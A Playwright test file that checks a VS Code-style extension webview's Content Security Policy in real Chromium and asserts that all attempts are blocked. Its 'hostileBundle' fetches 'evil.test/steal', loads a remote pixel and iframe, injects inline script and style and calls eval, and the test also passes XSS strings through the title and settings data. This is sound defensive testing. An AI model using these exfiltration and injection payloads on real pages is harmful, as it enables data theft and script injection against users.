// The CSP of the HTML builder, enforced by a real Chromium: the nonce'd bundle runs; inline
// scripts and styles without the nonce, remote images, fetches and frames are all blocked, and the
// only requests made go to the webview's own resource origin.
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../helpers/chromium';
import { buildWebviewHtml, createNonce } from '../../src/extension/webview-html';

const origin = 'https://ext.test';
let browser: Browser;

before(async () => { browser = await launchBrowser(); });
after(async () => { await browser?.close(); });

// What a compromised or careless bundle might try. Each attempt records whether it got through.
const hostileBundle = `
window.__attempts = {};
window.__bundleRan = true;
const inline = document.createElement('script');
inline.textContent = 'window.__attempts.inlineScript = true';
document.body.appendChild(inline);
const style = document.createElement('style');
style.textContent = 'body { color: rgb(1, 2, 3); }';
document.head.appendChild(style);
window.__attempts.inlineStyleApplied = getComputedStyle(document.body).color === 'rgb(1, 2, 3)';
fetch('https://evil.test/steal').then(() => { window.__attempts.fetch = true; }, () => {});
const img = new Image(); img.onload = () => { window.__attempts.remoteImage = true; }; img.src = 'https://evil.test/pixel.png';
const frame = document.createElement('iframe'); frame.src = 'https://evil.test/'; document.body.appendChild(frame);
try { eval('window.__attempts.eval = true'); } catch {}
`;

test('Chromium runs only the nonce-carrying bundle and blocks everything else', async () => {
  const nonce = createNonce();
  const html = buildWebviewHtml({
    cspSource: origin, nonce, title: '<script>window.__attempts.title = true</script>',
    styles: [`${origin}/dist/webview.css`], scripts: [`${origin}/dist/webview.js`],
    data: { settings: { note: '"><script>window.__attempts.attr = true</script>' } },
  });
  const context = await browser.newContext();
  const page = await context.newPage();
  const requests: string[] = [];
  const violations: string[] = [];
  await page.route('**/*', (route) => {
    const url = route.request().url();
    requests.push(url);
    if (url === `${origin}/index.html`) return route.fulfill({ contentType: 'text/html', body: html });
    if (url === `${origin}/dist/webview.js`) return route.fulfill({ contentType: 'text/javascript', body: hostileBundle });
    if (url === `${origin}/dist/webview.css`) return route.fulfill({ contentType: 'text/css', body: 'body { margin: 3px; }' });
    return route.abort('blockedbyclient');
  });
  await page.exposeFunction('__violation', (v: string) => violations.push(v));
  // Strings, not functions: this tsconfig has no DOM types, and the code runs in the page anyway.
  await page.addInitScript(`document.addEventListener('securitypolicyviolation', (e) => window.__violation(e.violatedDirective + ' ' + e.blockedURI));`);
  await page.goto(`${origin}/index.html`);
  await page.waitForTimeout(300);
  const state = await page.evaluate(`({ ran: window.__bundleRan, attempts: window.__attempts, margin: getComputedStyle(document.body).margin })`) as
    { ran?: boolean; attempts: Record<string, boolean>; margin: string };
  await context.close();
  assert.equal(state.ran, true, 'the nonce-carrying bundle runs');
  assert.equal(state.margin, '3px', 'the extension stylesheet applies');
  assert.deepEqual(state.attempts, { inlineStyleApplied: false });
  assert.deepEqual(requests, [`${origin}/index.html`, `${origin}/dist/webview.css`, `${origin}/dist/webview.js`], 'no request leaves the resource origin');
  for (const directive of ['script-src-elem', 'style-src-elem', 'connect-src', 'img-src', 'frame-src', 'script-src']) {
    assert.ok(violations.some((v) => v.startsWith(directive)), `${directive} violation reported: ${violations.join(' | ')}`);
  }
});
